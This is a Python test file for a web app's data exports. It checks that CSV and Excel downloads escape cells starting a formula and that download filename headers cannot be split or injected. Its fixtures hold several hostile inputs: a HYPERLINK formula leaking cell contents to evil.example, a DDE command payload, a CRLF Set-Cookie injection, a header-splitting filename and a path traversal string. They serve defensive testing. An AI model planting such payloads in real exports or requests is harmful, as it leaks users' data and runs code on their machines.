"""Exports do not carry live formulas or header injections from user text (issue 14, item 5)."""

from __future__ import annotations

import csv
import io
from urllib.parse import quote, unquote

import pandas as pd
import pytest
from openpyxl import load_workbook

from api.downloads import content_disposition, safe_filename
from geo.formulas import FORMULA_START, neutralise, neutralise_frame

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
EVIL_CODES = ['Q"; filename=evil.exe; x="', "Łódź€", "+cmd|' /C calc'!A0", "a/b"]


@pytest.fixture
def evil_client(client):
    rows = ["nis_code,zone_code,zone_name",
            f'34022,"{EVIL_CODES[0].replace(chr(34), chr(34) * 2)}","{EVIL_NAME.replace(chr(34), chr(34) * 2)}"',
            f"34025,{EVIL_CODES[1]},@SUM(1+1)*cmd",
            f"34027,\"{EVIL_CODES[2]}\",-2+3",
            f"34041,{EVIL_CODES[3]},\tTab"]
    response = client.post("/api/v1/layers", data={"id": "kwaad", "name": "-Kwade laag", "source": "@bron"},
                           files={"file": ("k.csv", "\n".join(rows).encode())})
    assert response.status_code == 201, response.text
    return client


@pytest.mark.parametrize("value", [EVIL_NAME, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_starts_a_formula_is_neutralised(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [-3, 2.5, "-12", "-1,5", "+32 %", "W13", "", None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert neutralise(value) == value


def test_a_frame_keeps_numbers_numeric():
    frame = neutralise_frame(pd.DataFrame({"=a": ["=b", "c"], "n": [-1.5, 2.0]}))
    assert list(frame.columns) == ["'=a", "n"]
    assert frame["n"].tolist() == [-1.5, 2.0] and frame["'=a"].tolist() == ["'=b", "c"]


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";" if ";" in text.splitlines()[0]
                                       else ",") for cell in row]


def test_overlay_csv_in_both_directions_has_no_live_formula(evil_client):
    for direction in ("a", "b"):
        response = evil_client.get("/api/v1/overlay", params={"a": "kwaad", "b": "eerstelijnszone",
                                                              "direction": direction, "format": "csv"})
        assert response.status_code == 200
        cells = _csv_cells(response.text)
        assert "'" + EVIL_NAME in cells
        live = [c for c in cells if c.startswith(FORMULA_START) and neutralise(c) != c]
        assert live == [], live


def test_overlay_xlsx_stores_user_text_as_text_on_every_sheet(evil_client):
    for a, b in (("kwaad", "eerstelijnszone"), ("eerstelijnszone", "kwaad")):
        response = evil_client.get("/overlay.xlsx", params={"a": a, "b": b})
        assert response.status_code == 200
        book = load_workbook(io.BytesIO(response.content))
        formulas, texts = [], []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        formulas.append((sheet.title, cell.coordinate, cell.value))
                    if cell.value == EVIL_NAME:
                        texts.append(cell.data_type)
        assert formulas == []
        assert texts and set(texts) == {"s"}  # the name is there, exactly as typed, as text


def test_cost_share_csv_header_cannot_be_injected(evil_client):
    for code in EVIL_CODES:
        response = evil_client.get(f"/api/v1/zones/kwaad/{quote(code, safe='')}/cost-share",
                                   params={"amount": "1000", "format": "csv"})
        if "/" in code:  # a zone code with '/' is reachable through the report route (below), not this one
            continue
        assert response.status_code == 200, (code, response.text)
        header = response.headers["content-disposition"]
        assert header.count("filename=") == 1 and header.count("filename*=") == 1
        assert "evil.exe\"" not in header and "\r" not in header and "\n" not in header
        assert "'" + "=" not in _csv_cells(response.text)


def test_report_pdf_of_a_zone_with_a_slash_and_odd_characters(evil_client):
    for code in (EVIL_CODES[3], EVIL_CODES[1]):
        html = evil_client.get(f"/reports/kwaad/{quote(code, safe='/')}", params={"against": "eerstelijnszone"})
        assert html.status_code == 200, (code, html.text[:300])
    header = content_disposition(f"pasvorm_kwaad_{EVIL_CODES[0]}.pdf", inline=True)
    assert header.startswith("inline; ") and header.count("filename=") == 1


@pytest.mark.parametrize("name", [*EVIL_CODES, "x\r\nSet-Cookie: a=b", "../../etc/passwd", "", "é" * 400, "\x00.pdf"])
def test_content_disposition_is_one_latin1_line_with_the_name_recoverable(name):
    header = content_disposition(name + ".csv")
    header.encode("latin-1")
    assert "\r" not in header and "\n" not in header and "/" not in header.split("filename*=")[1]
    encoded = header.split("filename*=UTF-8''")[1]
    assert unquote(encoded) == safe_filename(name + ".csv") and len(safe_filename(name + ".csv")) <= 150
    assert header.split('filename="')[1].split('"')[0].isascii()
